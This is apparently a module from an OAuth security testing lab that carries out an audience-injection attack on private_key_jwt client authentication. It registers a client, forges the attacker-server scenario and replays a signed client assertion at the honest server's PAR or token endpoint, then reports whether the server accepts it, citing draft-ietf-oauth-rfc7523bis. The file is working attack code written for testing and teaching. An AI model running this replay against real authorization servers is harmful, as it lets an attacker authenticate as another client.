"""Attack: audience injection against private_key_jwt (2025; draft-ietf-oauth-rfc7523bis).

The client authenticates with assertions it signs (RFC 7523). It works with the
honest server (H-AS) and with the attacker's (A-AS). RFC 7523 3 let an assertion's
aud be the token endpoint URL, and clients took that URL from the metadata:

    client                            A-AS (attacker)                H-AS (honest)
      | reads A-AS's metadata:          |                               |
      |   token_endpoint = H-AS/token   |  (a URL the attacker names,   |
      |   pushed_authorization_request_endpoint = A-AS/par   not its own)
      | POST A-AS/par, client_assertion |                               |
      |   aud = "H-AS/token" ---------->|  keeps the assertion          |
      |                                 | POST H-AS/par (or /token), the same assertion
      |                                 |------------------------------>| aud is my token
      |                                 |<--- 201: "you are the client" |  endpoint: accepted

The update (draft-ietf-oauth-rfc7523bis Section 4) makes aud the issuer identifier,
one string, and nothing else: the client puts A-AS's issuer there, which H-AS
refuses. Lab switch: `legacy_assertion_audience` (on the honest server).
"""

from __future__ import annotations

from typing import Any

from ..client import json_object
from ..client.client_assertion import assertion_steps, new_key, public_jwks
from ..client.par import par_endpoint
from ..server.switches import SWITCHES
from .registry import attack_on
from .result import AttackResult, Lesson, Unsupported
from .scenario import TargetLike, as_target

INJECTION = Lesson(
    "Audience injection against private_key_jwt",
    SWITCHES["legacy_assertion_audience"].source,
    "A client assertion's aud must be this server's issuer identifier, one string "
    "(draft-ietf-oauth-rfc7523bis Section 4): an assertion made for another server "
    "never names this one.",
)
ATTACKER_ISSUER = "https://attacker.example"


@attack_on("legacy_assertion_audience")
def audience_injection(target: TargetLike) -> AttackResult:
    """The attacker replays at the honest server an assertion the client made for it."""
    t = as_target(target)
    endpoints = t.endpoints()
    methods = endpoints.metadata.get("token_endpoint_auth_methods_supported") or []
    if "private_key_jwt" not in methods:
        listed = ", ".join(map(str, methods)) or "none"
        return INJECTION.result(
            False,
            "The server takes no client assertions, so there is nothing to inject.",
            [f"the metadata's token_endpoint_auth_methods_supported: {listed}"],
            {"token_endpoint_auth_methods_supported": listed},
            reason=(
                f"The server lists no private_key_jwt (token_endpoint_auth_methods_supported: "
                f"{listed}): no assertion made for another server can authenticate here."
            ),
        )
    if endpoints.registration_endpoint is None:
        raise Unsupported(
            "The server takes private_key_jwt but has no registration_endpoint: the check "
            "needs a client whose key it holds, so it registers one."
        )
    key = new_key()
    with t.http() as http:
        registered = json_object(
            http.post(
                endpoints.registration_endpoint,
                json={
                    "client_name": "Photo Importer (private_key_jwt)",
                    "redirect_uris": [t.redirect_uri],
                    "token_endpoint_auth_method": "private_key_jwt",
                    "jwks": public_jwks(key),
                    "scope": t.probe_scope() or "",
                },
            )
        )
    if not registered or "client_id" not in registered:
        raise Unsupported(f"The server did not register a private_key_jwt client: {registered}.")
    client_id = str(registered["client_id"])
    # what A-AS's metadata says: the honest server's token endpoint as its own
    injected = endpoints.token_endpoint
    steps = [
        f"the client {client_id} registers its public key at {t.issuer} (private_key_jwt)",
        f"the attacker's server {ATTACKER_ISSUER} names {injected} as its token_endpoint",
        f"the client signs an assertion for {ATTACKER_ISSUER}'s PAR endpoint with aud "
        f"{injected}, as RFC 7523 3 allowed, and the attacker keeps it",
    ]
    stolen = assertion_steps(key, client_id, injected).assertion
    target_url = (
        par_endpoint(endpoints)
        if "pushed_authorization_request_endpoint" in (endpoints.metadata)
        else endpoints.token_endpoint
    )
    form: dict[str, Any] = {
        "client_assertion_type": "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
        "client_assertion": stolen,
        "response_type": "code",
        "client_id": client_id,
        "redirect_uri": t.redirect_uri,
    }
    if t.probe_scope():
        form["scope"] = t.probe_scope()
    with t.http() as attacker:
        replay = attacker.post(target_url, data=form)
    body = json_object(replay) or {}
    steps.append(f"the attacker replays it at {target_url}: {replay.status_code}")
    succeeded = replay.status_code in (200, 201)
    answered = f"{replay.status_code} {body.get('error', '')}".strip()
    evidence: dict[str, object] = {"aud of the assertion": injected, "replay answered": answered}
    if succeeded:
        what = (
            f"The honest server took the attacker's replay as client {client_id}: the "
            f"assertion's aud {injected} is one of its endpoint URLs, so it counted as "
            "its own, though the client made it for the attacker's server."
        )
        reason = (
            f"An assertion with aud {injected}, made for another server, authenticated "
            f"the attacker as {client_id} ({answered})."
        )
    else:
        description = str(body.get("error_description", "")).rstrip(".")
        what = f"The replay was refused with {answered}. {description}."
        reason = f"The assertion with aud {injected} was answered {answered} ({description})."
    return INJECTION.result(succeeded, what, steps, evidence, reason=reason)
